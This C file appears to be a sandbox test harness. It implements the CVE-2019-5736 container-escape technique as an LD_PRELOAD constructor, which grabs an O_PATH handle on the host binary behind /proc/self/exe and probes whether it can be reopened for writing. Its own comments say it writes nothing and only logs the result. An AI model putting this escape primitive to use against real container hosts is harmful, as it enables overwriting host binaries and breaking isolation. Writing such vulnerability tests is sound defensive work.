/* The CVE-2019-5736 attack, as a preloaded library (built by
 * cve_2019_5736_overwrite_exe.sh with `cc -shared`, not by the Makefile).
 *
 * A sandbox whose command is a script starting "#!/proc/self/exe" makes
 * the process that execs it run *its own* binary again: in sbx that is the
 * sandbox's init's, the host's sbx (static, except in the sanitizer build:
 * dynamically linked, LD_PRELOAD from the sandbox's environment loads
 * this). This constructor
 * then takes an O_PATH handle on /proc/self/exe - the host binary - into
 * a child, which waits for the binary to stop running (a running binary
 * cannot be opened for writing: ETXTBSY) and execs the probe (so that it
 * no longer maps the binary itself) to reopen the handle read-write
 * through /proc/self/fd. Nothing is written: being able to open it is the
 * escape. $SBX_CVE_LOG gets "<target of /proc/self/exe>" and the probe's
 * "open_rw <OK|errno name>".
 *
 * It acts only when argv[0] is /proc/self/exe (the re-exec) or
 * SBX_CVE_CONTROL is set (the control run on the host); in every other
 * process of the sandbox it does nothing. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <unistd.h>

static FILE *log_open(void)
{
    const char *log = getenv("SBX_CVE_LOG");
    return fopen(log && *log ? log : "/data/cve.log", "a");
}

__attribute__((constructor)) static void attack(void)
{
    char argv0[64] = "";
    FILE *c = fopen("/proc/self/cmdline", "r");
    if (c) {
        size_t n = fread(argv0, 1, sizeof(argv0) - 1, c);
        argv0[n] = '\0';
        fclose(c);
    }
    if (strcmp(argv0, "/proc/self/exe") != 0 && !getenv("SBX_CVE_CONTROL"))
        return;
    char target[4096];
    ssize_t tn = readlink("/proc/self/exe", target, sizeof(target) - 1);
    target[tn > 0 ? tn : 0] = '\0';
    FILE *log = log_open();
    if (!log)
        return;
    fprintf(log, "%s\n", target);
    fflush(log);
    int h = open("/proc/self/exe", O_PATH); /* survives the exec below */
    if (h < 0) {
        fprintf(log, "open_path %s\n", strerrorname_np(errno));
        fclose(log);
        return;
    }
    pid_t parent = getpid();
    if (fork() != 0) {
        close(h);
        fclose(log);
        return; /* the binary runs on, and exits */
    }
    /* Child: nothing of the command's output is held open; the probe's
     * answer goes to the log. */
    int null = open("/dev/null", O_RDWR);
    dup2(null, 0);
    dup2(fileno(log), 1);
    dup2(null, 2);
    while (getppid() == parent)
        usleep(1000);
    char p[64];
    snprintf(p, sizeof(p), "/proc/self/fd/%d", h);
    const char *probe = getenv("SBX_CVE_PROBE");
    execl(probe && *probe ? probe : "/opt/helpers/probe", "probe", "open_rw", p, (char *)NULL);
    printf("exec-probe %s\n", strerrorname_np(errno));
    _exit(0);
}
